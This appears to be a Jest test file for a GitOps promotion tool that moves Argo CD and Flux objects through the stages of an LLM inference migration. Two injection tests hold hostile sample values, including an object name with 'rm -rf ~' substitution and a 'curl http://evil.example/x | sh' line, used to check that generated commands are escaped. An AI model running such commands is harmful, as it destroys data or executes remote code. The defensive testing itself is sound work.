import { Testing } from 'cdk8s';
import * as YAML from 'yaml';
import { renderReadme, runCommands } from './readme-commands';
import { CarriedManifest, GitOpsWriter, IMigration, MigrationStrategy, Promotion, PromoteOptions, ZeroDowntimeMigration } from '../../src';
import { GuideExamples } from '../../src/examples/guide-examples';
import { KServeGatewayApiMigration } from '../../src/kserve/kserve-gateway-api-migration';
import { parseActiveStageRecord } from '../../src/migration/active-stage';
import { pinnedRevision } from '../../src/migration/gitops-app';
import { configMap, controllerDeployment } from '../kserve/fixtures';

function planOf(m: IMigration): string {
  const out = new GitOpsWriter({ outdir: 'migrations' }).renderMigrations([m]);
  return out.files.find((f) => f.path === `${m.migrationName}/plan.json`)!.content;
}

const GUIDE = planOf(GuideExamples.zeroDowntime(Testing.app()));
const MIG = 'migrations/vllm-llama3-8b-instruct';

const ARGO = `# Argo CD Application of the LLM platform; promoted stage by stage.
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: llm   # the platform team's
  namespace: argocd
spec:
  project: default
  source:
    repoURL: https://github.com/example/gitops.git
    targetRevision: main   # follow the branch
    path: ${MIG}/01-side-by-side # <- this line moves
  destination: {server: 'https://kubernetes.default.svc', namespace: default}

  syncPolicy:
    automated: {prune: true}
`;

const FLUX = `---
# Flux: the migration's Kustomization
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata:
  name: llm
  namespace: flux-system
spec:
  interval: 5m
  path: './${MIG}/02-shift-50'
  prune: true
  sourceRef:
    kind: GitRepository
    name: gitops
`;

function promote(appText: string, options: Partial<PromoteOptions> = {}) {
  return Promotion.promote({ appText, planText: GUIDE, appFile: 'clusters/prod/llm.yaml', migrationDir: MIG, ...options });
}

/** The lines of `after` that differ from `before` (both must have the same number of lines). */
function changedLines(before: string, after: string): Array<[string, string]> {
  const a = before.split('\n');
  const b = after.split('\n');
  expect(b).toHaveLength(a.length);
  return a.map((l, i) => [l, b[i]] as [string, string]).filter(([x, y]) => x !== y);
}

describe('Promotion.promote', () => {
  test('given an Argo CD Application with comments, then only the path value changes, comments and spacing kept', () => {
    const r = promote(ARGO);
    expect(changedLines(ARGO, r.text)).toEqual([[
      `    path: ${MIG}/01-side-by-side # <- this line moves`,
      `    path: ${MIG}/02-shift-50 # <- this line moves`,
    ]]);
    expect([r.fromStage, r.toStage, r.tool, r.objectKind, r.objectName, r.field, r.line]).toEqual(['01-side-by-side', '02-shift-50', 'Argo CD', 'Application', 'argocd/llm', 'spec.source.path', 12]);
    expect(r.diff).toBe([
      '--- clusters/prod/llm.yaml',
      '+++ clusters/prod/llm.yaml',
      '@@ -12 +12 @@',
      `-    path: ${MIG}/01-side-by-side # <- this line moves`,
      `+    path: ${MIG}/02-shift-50 # <- this line moves`,
      '',
    ].join('\n'));
  });

  test('given a Flux Kustomization with a quoted ./ path, then the quotes and ./ stay', () => {
    const r = promote(FLUX);
    expect(changedLines(FLUX, r.text)).toEqual([[`  path: './${MIG}/02-shift-50'`, `  path: './${MIG}/03-finalize'`]]);
    expect(r.newPath).toBe(`./${MIG}/03-finalize`);
  });

  test('given a double-quoted path with a trailing slash and CRLF line ends, then both are kept', () => {
    const text = ARGO.replace(`path: ${MIG}/01-side-by-side`, `path: "${MIG}/01-side-by-side/"`).replace(/\n/g, '\r\n');
    const r = promote(text);
    expect(r.text).toBe(text.replace(`"${MIG}/01-side-by-side/"`, `"${MIG}/02-shift-50/"`));
  });

  test('given a multi-document file, then the object that points at the migration is found; --name picks among several', () => {
    const other = ARGO.replace('name: llm   #', 'name: other   #').replace(`${MIG}/01-side-by-side`, 'apps/other');
    expect(promote(`${other}---\n${FLUX}`).objectName).toBe('flux-system/llm');
    const both = `${ARGO}---\n${FLUX}`;
    expect(() => promote(both)).toThrow('clusters/prod/llm.yaml: 2 objects point at the migration vllm-llama3-8b-instruct (Application llm, line 12; Kustomization llm, line 27): name one with --name');
    expect(() => promote(both, { name: 'llm' })).toThrow('2 objects are named llm');
    expect(() => promote(both, { name: 'nope' })).toThrow('no Argo CD Application or Flux Kustomization named nope (found: Application llm, Kustomization llm)');
    expect(promote(`${other}---\n${ARGO}`, { name: 'llm' }).line).toBe(29);
  });

  test('given a skip, then it is refused unless skip is set; skipping forward is then allowed', () => {
    expect(() => promote(ARGO, { to: '03-finalize' })).toThrow('moving from 01-side-by-side to 03-finalize skips 02-shift-50: each stage is meant to be synced and verified in turn; add --skip to do it anyway; nothing was changed');
    const r = promote(ARGO, { to: 'finalize', skip: true });
    expect(r.toStage).toBe('03-finalize');
    expect(r.pullRequestBody).toContain('### Applying `02-shift-50`');
    expect(r.pullRequestBody).toContain('### Applying `03-finalize`');
    expect(r.pullRequestBody).toContain('- [ ] Skipping `02-shift-50` is intended');
    expect(r.pullRequestBody).toContain(`inference-migrate promote ${MIG} --app clusters/prod/llm.yaml --rollback --to 01-side-by-side --skip`);
  });

  test('given a skip straight to cleanup, then a specific warning says how much traffic leaves the alpha pool and that the pool goes in the same sync', () => {
    // Given the Application at 01-side-by-side (all requests on the alpha pool)
    const r = promote(ARGO, { to: 'cleanup', skip: true });
    // Then the warning names the route, the share, the skipped stages and the removal
    expect(r.warnings[0]).toBe('skipping from 01-side-by-side straight to 04-cleanup moves 100% of the requests of HTTPRoute default/llm-route off the alpha pool in one sync, '
      + 'and 04-cleanup removes the alpha stack: no stage in between (02-shift-50, 03-finalize) shows the GA pool carrying them, and a rollback must bring the alpha stack back first. '
      + 'Promote stage by stage unless the GA pool is proven already');
    expect(r.pullRequestBody).toContain('skipping from 01-side-by-side straight to 04-cleanup moves 100%');
  });

  test('given a skip that moves no alpha traffic (to finalize from the shift stage is not a skip; to 03-finalize from 01 is), then only traffic moves are warned about', () => {
    expect(promote(ARGO, { to: 'finalize', skip: true }).warnings[0]).toMatch(/^skipping from 01-side-by-side straight to 03-finalize moves 100% of the requests of HTTPRoute default\/llm-route off the alpha pool in one sync: no stage in between \(02-shift-50\)/);
    expect(promote(FLUX, {}).warnings.filter((w) => w.startsWith('skipping'))).toEqual([]);
  });

  test('given a move backwards, then it is refused unless rollback is set; the rollback goes to the previous stage', () => {
    expect(() => promote(FLUX, { to: '01-side-by-side' })).toThrow('01-side-by-side comes before 02-shift-50: moving backwards is a rollback; add --rollback to do it; nothing was changed');
    const r = promote(FLUX, { rollback: true });
    expect(r.newPath).toBe(`./${MIG}/01-side-by-side`);
    expect(r.pullRequestTitle).toBe('Roll back vllm-llama3-8b-instruct to 01-side-by-side');
    // The changes of 02-shift-50, undone.
    expect(r.pullRequestBody).toContain('  - `spec.rules[0].backendRefs[inference.networking.x-k8s.io/InferencePool/vllm-llama3-8b-instruct-alpha].weight: 50 -> 100`');
    expect(r.pullRequestBody).toContain('  - `spec.rules[0].backendRefs[inference.networking.k8s.io/InferencePool/vllm-llama3-8b-instruct-ga]: {group: inference.networking.k8s.io, kind: InferencePool, name: vllm-llama3-8b-instruct-ga, weight: 50} -> (unset)`');
    expect(r.pullRequestBody).toContain(`inference-migrate promote ${MIG} --app clusters/prod/llm.yaml --to 02-shift-50`);
    expect(() => promote(FLUX, { rollback: true, to: '03-finalize' })).toThrow('--rollback moves backwards, but 03-finalize comes after 02-shift-50');
    expect(() => promote(ARGO, { rollback: true })).toThrow('01-side-by-side is the first stage of vllm-llama3-8b-instruct: there is no earlier stage to roll back to');
  });

  test('given the last stage, or the stage it is at, then there is nothing to promote', () => {
    const last = ARGO.replace('01-side-by-side', '04-cleanup');
    expect(() => promote(last)).toThrow('04-cleanup is the last stage of vllm-llama3-8b-instruct: nothing to promote; to move back, add --rollback');
    expect(() => promote(ARGO, { to: '01-side-by-side' })).toThrow('the object points at 01-side-by-side already');
    expect(() => promote(ARGO, { to: '07-nope' })).toThrow('--to 07-nope is no stage of the migration vllm-llama3-8b-instruct (stages: 01-side-by-side, 02-shift-50, 03-finalize, 04-cleanup)');
  });

  test('given a path of another migration or folder, then it is refused naming the path and the stages expected', () => {
    for (const p of ['apps/llm', `${MIG}-gke/01-side-by-side`, `${MIG}/gitops`, `${MIG}`]) {
      expect(() => promote(ARGO.replace(`${MIG}/01-side-by-side`, p))).toThrow(
        `clusters/prod/llm.yaml:12: spec.source.path of the Argo CD Application argocd/llm is ${p}, which points at no stage of the migration vllm-llama3-8b-instruct: `
        + 'a path ending in vllm-llama3-8b-instruct/<stage> was expected (stages: 01-side-by-side, 02-shift-50, 03-finalize, 04-cleanup); nothing was changed');
    }
    expect(() => promote('apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n')).toThrow('clusters/prod/llm.yaml holds no Argo CD Application (argoproj.io) with spec.source.path and no Flux Kustomization (kustomize.toolkit.fluxcd.io) with spec.path');
  });

  test('given a migration folder renamed in the repository, then its folder name is accepted too', () => {
    const moved = ARGO.replace(`${MIG}/01-side-by-side`, 'clusters/prod/llm-migration/01-side-by-side');
    expect(promote(moved, { migrationDir: 'clusters/prod/llm-migration' }).newPath).toBe('clusters/prod/llm-migration/02-shift-50');
  });

  test('given an ApplicationSet, a multi-source Application, or a path written as an alias, then each is refused with the reason', () => {
    const appSet = `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: llm-set}
spec:
  generators: [{list: {elements: [{stage: 01-side-by-side}]}}]
  template:
    metadata: {name: 'llm-{{stage}}'}
    spec:
      source: {repoURL: x, path: '${MIG}/{{stage}}'}
`;
    expect(() => promote(appSet)).toThrow('the Argo CD ApplicationSet llm-set is not supported yet: the Applications it generates take their path from its template and generators; change the path there by hand; nothing was changed');
    const multi = ARGO.replace(/  source:\n[\s\S]*?# <- this line moves\n/, `  sources:\n    - {repoURL: x, path: ${MIG}/01-side-by-side}\n    - {repoURL: y, chart: z}\n`);
    expect(() => promote(multi)).toThrow('the Argo CD Application llm has several sources (spec.sources), which promotion does not support yet');
    // An empty spec.sources is no multi-source Application (Argo CD reads spec.source then).
    expect(promote(ARGO.replace('  source:\n', '  sources: []\n  source:\n')).toStage).toBe('02-shift-50');
    const hydrated = ARGO.replace('  source:\n', `  sourceHydrator:\n    drySource: {repoURL: x, path: ${MIG}/01-side-by-side}\n    syncSource: {targetBranch: env, path: llm}\n  source:\n`);
    expect(() => promote(hydrated)).toThrow('the Argo CD Application llm uses the source hydrator (spec.sourceHydrator), which promotion does not support yet: change its drySource.path by hand');
    const anchored = ARGO.replace(`path: ${MIG}/01-side-by-side`, `path: &q ${MIG}/01-side-by-side`);
    expect(promote(anchored).text).toContain(`path: &q ${MIG}/02-shift-50`); // an anchor nothing refers to: edited
    expect(() => promote(anchored.replace('  destination:', '  info: *q\n  destination:'))).toThrow('spec.source.path of the Argo CD Application llm is anchored (&q) and used elsewhere (*q): changing it would change those too; change it by hand');
    const aliased = ARGO.replace(`path: ${MIG}/01-side-by-side`, 'path: *p').replace('spec:\n', `spec:\n  base: &p ${MIG}/01-side-by-side\n`);
    expect(() => promote(aliased, { name: 'llm' })).toThrow('spec.source.path of the Argo CD Application llm is an alias (*p): change it by hand');
  });

  test('given a targetRevision pinned to a tag or a Flux source pinned to a tag, then the promotion warns that it will not deploy', () => {
    const tagged = promote(ARGO.replace('targetRevision: main', 'targetRevision: v1.4.2'));
    expect(tagged.warnings[0]).toBe('spec.source.targetRevision is v1.4.2, which looks like a tag: Argo CD keeps deploying that tag, so merging this change promotes nothing until targetRevision points at a revision that holds it (a branch, or a new tag)');
    expect(tagged.pullRequestBody).toContain('> [!WARNING]\n> - spec.source.targetRevision is v1.4.2');
    const source = 'apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: gitops, namespace: flux-system}\nspec: {url: x, ref: {tag: v2.0.0}}\n';
    expect(promote(`${source}${FLUX}`).warnings[0]).toContain('the GitRepository gitops that this Kustomization reads is pinned (spec.ref.tag: v2.0.0)');
    expect(promote(ARGO).warnings.filter((w) => w.includes('targetRevision'))).toEqual([]);
    expect(['main', 'HEAD', '', 'release-1.x', 'deadbeef', 'v1.2.3', '1.2', 'refs/tags/x', '3f2a1b9', 'a'.repeat(39) + '1'].map(pinnedRevision))
      .toEqual([undefined, undefined, undefined, undefined, undefined, 'tag', 'tag', 'tag', 'commit', 'commit']);
  });

  test('given the promotion to the first shift, then the pull request says what the stage does, the weights that move, the checks and the rollback', () => {
    const body = promote(ARGO).pullRequestBody;
    expect(promote(ARGO).pullRequestTitle).toBe('Promote vllm-llama3-8b-instruct to 02-shift-50');
    expect(body).toContain('Promotes the migration `vllm-llama3-8b-instruct` from `01-side-by-side` to `02-shift-50` (stage 2 of 4): the Argo CD Application `argocd/llm` in `clusters/prod/llm.yaml` now syncs `migrations/vllm-llama3-8b-instruct/02-shift-50`. This change edits only its `spec.source.path` (line 12).');
    expect(body).toContain('## What `02-shift-50` does\n\nThe route splits traffic: 50% to the alpha pool, 50% to the GA pool.');
    expect(body).toContain('- changed `HTTPRoute default/llm-route`\n  - `spec.rules[0].backendRefs[inference.networking.x-k8s.io/InferencePool/vllm-llama3-8b-instruct-alpha].weight: 100 -> 50`');
    expect(body).toContain('## Before merging\n\n- [ ] `01-side-by-side` is synced and its checks pass');
    expect(body).toContain('## After syncing\n\n- [ ] The Gateway default/inference-gateway is programmed.\n\n  ```bash\n  kubectl get gateway.gateway.networking.k8s.io inference-gateway -n default -o \'jsonpath={"Programmed="}{.status.conditions[?(@.type=="Programmed")].status}{" class="}{.spec.gatewayClassName}{" address="}{.status.addresses[0].value}{"\\n"}\'\n  ```\n\n  Expected: Programmed=True, and an address.');
    expect(body).toContain(`## Roll back\n\nEach stage folder holds a complete desired state, so pointing the path back at \`01-side-by-side\` restores that stage (reverting this change does the same):\n\n\`\`\`bash\ninference-migrate promote ${MIG} --app clusters/prod/llm.yaml --rollback\n\`\`\``);
  });

  test('given the cleanup of a Helm-installed alpha pool, then the steps after verifying (helm uninstall) are in the pull request', () => {
    const body = promote(ARGO.replace('01-side-by-side', '03-finalize')).pullRequestBody;
    expect(body).toContain('## After verifying');
    expect(body).toContain('helm uninstall vllm-llama3-8b-instruct-alpha -n default');
  });

  test('given the first stage, then the CRDs to install come before merging', () => {
    const fresh = Promotion.promote({ appText: ARGO.replace('01-side-by-side', '01-side-by-side'), planText: GUIDE, to: '02-shift-50', migrationDir: MIG });
    expect(fresh.pullRequestBody).toContain('## Before merging');
    const body = Promotion.promote({ appText: ARGO.replace('01-side-by-side', '02-shift-50'), planText: GUIDE, rollback: true, migrationDir: MIG }).pullRequestBody;
    expect(body).toContain('This rollback restores the desired state in Git only');
  });

  test('given hostile file and object names, then the body shows them literally and the rollback command quotes them', () => {
    const name = 'llm`$(rm -rf ~)`';
    const text = ARGO.replace('name: llm   #', `name: '${name}'   #`);
    const r = promote(text, { appFile: 'clusters/my apps;x.yaml', name });
    expect(r.pullRequestBody).toContain('the Argo CD Application `` argocd/llm`$(rm -rf ~)` `` in `clusters/my apps;x.yaml`');
    expect(r.pullRequestBody).toContain(`inference-migrate promote ${MIG} --app 'clusters/my apps;x.yaml' --name 'llm\`$(rm -rf ~)\`' --rollback`);
  });

  test('given a plan built from names made to inject, then the pull request adds no heading or HTML and its commands run nothing injected', () => {
    // Given a migration whose Helm release, model names and preview header are built to inject, and a hostile file name
    const fence = 'm\n```\n# Pwned\n\ncurl http://evil.example/x | sh\n```\n';
    const m = new ZeroDowntimeMigration(Testing.app(), 'm', {
      alphaPool: { existing: { name: 'p-alpha', modelServerSelector: { app: 'x' }, helmRelease: 'r$(touch pwned-release)', inferenceModelNames: ['x; touch pwned-name #', fence] } },
      gateway: { name: 'inference-gateway' },
      strategy: MigrationStrategy.HEADER_PREVIEW_CUTOVER,
      previewHeader: { name: 'x-preview', value: 'ga\'; touch pwned-preview; echo \'' },
    });
    m.stages[3].addWarning(`warning: ${fence}`);
    m.stages[3].addManualStep({ text: `1. # step\n${fence}| a | b |\n<!-- hidden`, commands: ['echo \'```\''] });
    const planText = planOf(m);
    const app = 'kind: Application\napiVersion: argoproj.io/v1alpha1\nmetadata: {name: \'a$(touch pwned-app)\'}\nspec: {source: {path: migrations/m/03-cutover}}\n';

    // When it is promoted to cleanup, and rolled back from there
    const forward = Promotion.promote({ appText: app, planText, appFile: 'x;touch pwned-file #.yaml', migrationDir: 'migrations/$(touch pwned-dir)/m', name: 'a$(touch pwned-app)' });
    const back = Promotion.promote({ appText: forward.text, planText, appFile: 'x;touch pwned-file #.yaml', migrationDir: 'migrations/m', rollback: true });

    // Then only the body's own sections are headings, and pasting its code blocks into bash creates nothing
    for (const body of [forward.pullRequestBody, back.pullRequestBody]) {
      const rendered = renderReadme(body);
      expect(rendered.headings.filter((h) => !/^2 (What .* does|What changes|Before merging|After syncing|After verifying|Roll back)$/.test(h) && !/^3 /.test(h))).toEqual([]);
      expect(rendered.html).toEqual([]);
      const run = runCommands(rendered.codeBlocks.join('\n'));
      expect(run.files.filter((f) => f.startsWith('pwned'))).toEqual([]);
    }
    const calls = runCommands(renderReadme(forward.pullRequestBody).codeBlocks.join('\n')).calls;
    expect(calls).toContainEqual(['helm', 'uninstall', 'r$(touch pwned-release)', '-n', 'default']);
  });

  test('given YAML errors, then they are reported with the line and nothing is returned', () => {
    expect(() => promote('a: [\n')).toThrow(/^clusters\/prod\/llm\.yaml:\d+: /);
    expect(() => promote(`${ARGO}metadata: {name: dup}\n`)).toThrow(/clusters\/prod\/llm\.yaml:\d+: Map keys must be unique/);
    expect(() => promote('a: *nope\n')).toThrow('clusters/prod/llm.yaml: Unresolved alias');
  });

  test('given a promoted file, then it parses to the same objects but the path', () => {
    const r = promote(`${ARGO}---\n${FLUX.replace('name: llm', 'name: other').replace('02-shift-50', '../elsewhere')}`);
    const before = YAML.parseAllDocuments(`${ARGO}---\n`).map((d) => d.toJS());
    const after = YAML.parseAllDocuments(r.text).map((d) => d.toJS());
    before[0].spec.source.path = `${MIG}/02-shift-50`;
    expect(after[0]).toEqual(before[0]);
  });
});

describe('Promotion.promote: which object and which stage', () => {
  const APP_SET = `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: llm-set}
spec:
  template:
    spec:
      source: {repoURL: x, path: 'apps/{{stage}}'}
`;
  const MULTI = `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: multi}
spec:
  sources:
    - {repoURL: x, path: apps/elsewhere}
    - {repoURL: y, path: ${MIG}/01-side-by-side}
`;
  const ELSEWHERE = ARGO.replace('name: llm   #', 'name: other   #').replace(`${MIG}/01-side-by-side`, 'apps/other');

  test('given the migration folder with trailing or Windows slashes, then its last folder name is still accepted', () => {
    // Given an Application that points at the migration under a folder name other than the plan's
    const moved = ARGO.replace(`${MIG}/01-side-by-side`, 'clusters/prod/llm-migration/01-side-by-side');
    // When the migration folder is given with a trailing slash, several, or backslashes
    // Then the promotion finds the stage all the same
    for (const dir of ['clusters/prod/llm-migration/', 'clusters/prod/llm-migration//', 'clusters\\prod\\llm-migration\\']) {
      expect(promote(moved, { migrationDir: dir }).newPath).toBe('clusters/prod/llm-migration/02-shift-50');
    }
  });

  test('given the migration folder given as . or .., then a path whose folder is . or .. is no stage of the migration', () => {
    for (const dir of ['.', '..', './', '../']) {
      const folder = dir.replace(/\/$/, '');
      // Given an Application whose path is <dir>/01-side-by-side
      const text = ARGO.replace(`${MIG}/01-side-by-side`, `${folder}/01-side-by-side`);
      // When it is promoted with that migration folder
      // Then it is refused: "." and ".." name no migration folder
      expect(() => promote(text, { migrationDir: dir })).toThrow(`is ${folder}/01-side-by-side, which points at no stage of the migration vllm-llama3-8b-instruct`);
    }
  });

  test('given --name and another object the tool refuses, then only objects of that name count', () => {
    // Given the Application llm and an ApplicationSet of another name
    // When llm is named
    // Then llm is promoted, the ApplicationSet ignored
    expect(promote(`${APP_SET}---\n${ARGO}`, { name: 'llm' }).toStage).toBe('02-shift-50');
    // And given an ApplicationSet of the same name, then the name is ambiguous
    expect(() => promote(`${APP_SET.replace('llm-set', 'llm')}---\n${ARGO}`, { name: 'llm' })).toThrow('clusters/prod/llm.yaml: 2 objects are named llm: promotion needs exactly one; nothing was changed');
  });

  test('given --name of no object, then the error lists the refused objects too, or nothing when the file holds none', () => {
    expect(() => promote(`${APP_SET}---\n${ARGO}`, { name: 'nope' })).toThrow('clusters/prod/llm.yaml: no Argo CD Application or Flux Kustomization named nope (found: Application llm, ApplicationSet llm-set); nothing was changed');
    expect(() => promote('apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n', { name: 'nope' })).toThrow(/^clusters\/prod\/llm\.yaml: no Argo CD Application or Flux Kustomization named nope; nothing was changed$/);
  });

  test('given an object pointing elsewhere and a refused one pointing at the migration, then the refusal says why the latter cannot be promoted', () => {
    // Given an Application elsewhere and a multi-source Application with one of its sources on a stage
    // When nothing is named
    // Then the reason is the multi-source one, not "points at no stage"
    expect(() => promote(`${ELSEWHERE}---\n${MULTI}`)).toThrow('the Argo CD Application multi has several sources (spec.sources)');
  });

  test('given an object pointing elsewhere and a refused one pointing elsewhere too, then the error names the path of the first', () => {
    expect(() => promote(`${ELSEWHERE}---\n${APP_SET}`)).toThrow('clusters/prod/llm.yaml:12: spec.source.path of the Argo CD Application argocd/other is apps/other, which points at no stage of the migration');
  });

  test('given several objects none of which points at the migration, then each is listed with its path', () => {
    const flux = FLUX.replace(`./${MIG}/02-shift-50`, './apps/flux');
    expect(() => promote(`${ELSEWHERE}---\n${flux}`)).toThrow('clusters/prod/llm.yaml: none of its 2 GitOps objects points at a stage of the migration vllm-llama3-8b-instruct '
      + '(Application other: apps/other; Kustomization llm: ./apps/flux); a path ending in vllm-llama3-8b-instruct/<stage> was expected (stages: 01-side-by-side, 02-shift-50, 03-finalize, 04-cleanup); nothing was changed');
  });

  test('given a skip of two stages, then both are named', () => {
    expect(() => promote(ARGO, { to: '04-cleanup' })).toThrow('moving from 01-side-by-side to 04-cleanup skips 02-shift-50, 03-finalize: ');
  });

  test('given no file or plan names, then the errors say "the GitOps file" and "plan.json"', () => {
    expect(() => Promotion.promote({ appText: 'kind: ConfigMap\n', planText: GUIDE })).toThrow('the GitOps file holds no Argo CD Application');
    expect(() => Promotion.promote({ appText: ARGO, planText: 'nope' })).toThrow('plan.json: not valid JSON');
  });

  test('given moves forward and back, then the warnings are those of every stage applied forward, and of the stage returned to backward', () => {
    const GENERIC = '02-shift-50: Gateway implementation generic: ';
    // Given an unpinned Application: no warning of its own
    // When it moves to the shift stage, which warns about the gateway, or skips over it
    // Then that warning is the only one, or is kept with the skip's
    expect(promote(ARGO).warnings).toEqual([expect.stringMatching(`^${GENERIC}`)]);
    expect(promote(ARGO, { to: '03-finalize', skip: true }).warnings).toContainEqual(expect.stringMatching(`^${GENERIC}`));
    // When it rolls back to the shift stage, the warning comes back; rolling back past it, it does not
    const atFinalize = ARGO.replace('01-side-by-side', '03-finalize');
    expect(promote(atFinalize, { rollback: true }).warnings).toEqual([expect.stringMatching(`^${GENERIC}`)]);
    expect(promote(FLUX, { rollback: true }).warnings).toEqual([]);
    // And moving forward from the shift stage, its warning is behind: none
    expect(promote(FLUX).warnings).toEqual([]);
  });
});

describe('Promotion.status', () => {
  test('given the GitOps file, then it names the active stage, the next one and what the next one changes', () => {
    const s = Promotion.status({ planText: GUIDE, appText: FLUX, appFile: 'llm.yaml', migrationDir: MIG });
    expect(s).toMatchObject({
      migration: 'vllm-llama3-8b-instruct',
      activeStage: '02-shift-50',
      activeOrdinal: 2,
      source: 'Flux Kustomization flux-system/llm (llm.yaml:10)',
      nextStage: '03-finalize',
      promoteCommand: `inference-migrate promote ${MIG} --app llm.yaml`,
    });
    expect(s.nextChanges).toEqual([
      'changed HTTPRoute default/llm-route',
      '  spec.rules[0].backendRefs[inference.networking.k8s.io/InferencePool/vllm-llama3-8b-instruct-ga].weight: 50 -> 100',
      '  spec.rules[0].backendRefs[inference.networking.x-k8s.io/InferencePool/vllm-llama3-8b-instruct-alpha]: {group: inference.networking.x-k8s.io, kind: InferencePool, name: vllm-llama3-8b-instruct-alpha, weight: 50} -> (unset)',
    ]);
  });

  test('given the stage an app selects in code, then the next stage is named; the last stage has none', () => {
    expect(Promotion.status({ planText: GUIDE, stage: 'shift-50' })).toMatchObject({ activeStage: '02-shift-50', nextStage: '03-finalize' });
    const last = Promotion.status({ planText: GUIDE, stage: '04-cleanup' });
    expect(last.nextStage).toBeUndefined();
    expect(last.promoteCommand).toBeUndefined();
    expect(Promotion.status({ planText: GUIDE, stage: '03-finalize' }).nextManualSteps).toContain('after verify: The alpha stack was installed by Helm, outside Git: uninstall its release once this stage is verified.');
  });

  test('given a KServe migration, then its stages and the ConfigMap change inside its ingress JSON are reported', () => {
    const plan = planOf(new KServeGatewayApiMigration(Testing.app(), 'kserve-gateway-api', {
      existingConfigMap: CarriedManifest.fromObject(configMap()), controllerDeployment: CarriedManifest.fromObject(controllerDeployment()),
    }));
    const s = Promotion.status({ planText: plan, stage: '01-gateway' });
    expect(s.nextStage).toBe('02-enable-gateway-api');
    expect(s.nextChanges).toContain('  data.ingress#/enableGatewayApi: false -> true');
  });

  test('given an unpinned or a pinned GitOps object, then status warns only about the pinned one', () => {
    expect(Promotion.status({ planText: GUIDE, appText: FLUX, migrationDir: MIG }).warnings).toEqual([]);
    expect(Promotion.status({ planText: GUIDE, appText: ARGO.replace('targetRevision: main', 'targetRevision: v1.4.2'), migrationDir: MIG }).warnings)
      .toEqual([expect.stringMatching(/^spec\.source\.targetRevision is v1\.4\.2, which looks like a tag/)]);
  });

  test('given no file name, a named object, or an unknown stage, then status says so in its words', () => {
    const s = Promotion.status({ planText: GUIDE, appText: FLUX, migrationDir: MIG, name: 'llm' });
    expect(s.source).toBe('Flux Kustomization flux-system/llm (the GitOps file:10)');
    expect(s.promoteCommand).toBe(`inference-migrate promote ${MIG} --app 'the GitOps file' --name llm`);
    expect(() => Promotion.status({ planText: GUIDE, stage: 'nope' })).toThrow('--stage nope is no stage of the migration vllm-llama3-8b-instruct');
    expect(() => Promotion.status({ planText: GUIDE })).toThrow('status needs the GitOps file (appText) or the active stage (stage)');
  });

  test('given the last stage, then nothing is next: no changes and no manual steps', () => {
    const last = Promotion.status({ planText: GUIDE, stage: '04-cleanup' });
    expect([last.nextChanges, last.nextManualSteps, last.warnings]).toEqual([[], [], []]);
  });

  test('given a promotion, then its active-stage record names the stage, where it came from and the GitOps object that syncs it', () => {
    const record = parseActiveStageRecord(promote(ARGO).activeStageRecord, 'active-stage.json');
    expect(record).toEqual({
      migration: 'vllm-llama3-8b-instruct',
      activeStage: '02-shift-50',
      stageName: 'shift-50',
      promotedFrom: '01-side-by-side',
      gitopsObject: 'Argo CD Application argocd/llm',
      file: 'clusters/prod/llm.yaml',
    });
  });

  test('given something other than a plan.json, then the error says what was expected', () => {
    expect(() => Promotion.status({ planText: '{}', planFile: 'x/plan.json', stage: 'a' })).toThrow('x/plan.json: no "migration" name: is it the plan.json of a migration written by inference-migrate');
    expect(() => Promotion.status({ planText: 'nope', stage: 'a' })).toThrow('plan.json: not valid JSON');
  });
});

/** The guide's plan with its stages' routes (and the cleanup stage's name and deletions) replaced. */
function craftedPlan(edit: (stages: any[]) => void): string {
  const plan = JSON.parse(GUIDE);
  edit(plan.stages);
  return JSON.stringify(plan);
}

function route(name: string, backends: Array<[group: string, kind: string, weight: number]>) {
  return {
    apiVersion: 'gateway.networking.k8s.io/v1',
    kind: 'HTTPRoute',
    namespace: 'default',
    name,
    rules: [{ backends: backends.map(([group, kind, weight], i) => ({ group, kind, name: `b${i}`, weight })) }],
  };
}

const ALPHA = 'inference.networking.x-k8s.io';
const GA = 'inference.networking.k8s.io';

function skipWarning(planText: string, to: string): string | undefined {
  return Promotion.promote({ appText: ARGO, planText, appFile: 'clusters/prod/llm.yaml', migrationDir: MIG, to, skip: true })
    .warnings.find((w) => w.startsWith('skipping'));
}

describe('Promotion.promote: the skip warning counts only requests the alpha pool loses', () => {
  test('given a route that also sends to a Service, then the alpha share counts the pools only', () => {
    // Given a route whose alpha pool has half the weight and a plain Service the other half
    const planText = craftedPlan((stages) => {
      stages[0].routes = [route('mixed', [[ALPHA, 'InferencePool', 50], ['', 'Service', 50]])];
      stages[2].routes = [route('mixed', [[GA, 'InferencePool', 50], ['', 'Service', 50]])];
    });
    // When the Application skips from 01 to 03
    // Then all the pools' requests (100%) leave the alpha pool, not the 50% of the route's whole weight
    expect(skipWarning(planText, '03-finalize')).toMatch(/^skipping from 01-side-by-side straight to 03-finalize moves 100% of the requests of HTTPRoute default\/mixed off the alpha pool in one sync: no stage in between \(02-shift-50\)/);
  });

  test('given routes that never sent to the alpha pool, or still do after the move, then only the moved route is named', () => {
    // Given three routes: one GA all along, one still 30% alpha at the target, one moved from 80% alpha
    const planText = craftedPlan((stages) => {
      stages[0].routes = [route('ga-only', [[GA, 'InferencePool', 1]]), route('still', [[ALPHA, 'InferencePool', 1]]), route('moved', [[ALPHA, 'InferencePool', 4], [GA, 'InferencePool', 1]])];
      stages[2].routes = [route('ga-only', [[GA, 'InferencePool', 1]]), route('still', [[ALPHA, 'InferencePool', 3], [GA, 'InferencePool', 7]]), route('moved', [[GA, 'InferencePool', 1]])];
    });
    // Then the warning names the moved route and its share only
    const warning = skipWarning(planText, '03-finalize')!;
    expect(warning).toMatch(/^skipping from 01-side-by-side straight to 03-finalize moves 80% of the requests of HTTPRoute default\/moved off the alpha pool in one sync: /);
    expect(warning).not.toMatch(/ga-only|still/);
  });

  test('given two routes that both leave the alpha pool, then both are named, joined by and', () => {
    const planText = craftedPlan((stages) => {
      stages[0].routes = [route('a', [[ALPHA, 'InferencePool', 1]]), route('b', [[ALPHA, 'InferencePool', 1], [GA, 'InferencePool', 3]])];
      stages[2].routes = [route('a', [[GA, 'InferencePool', 1]]), route('b', [[GA, 'InferencePool', 1]])];
    });
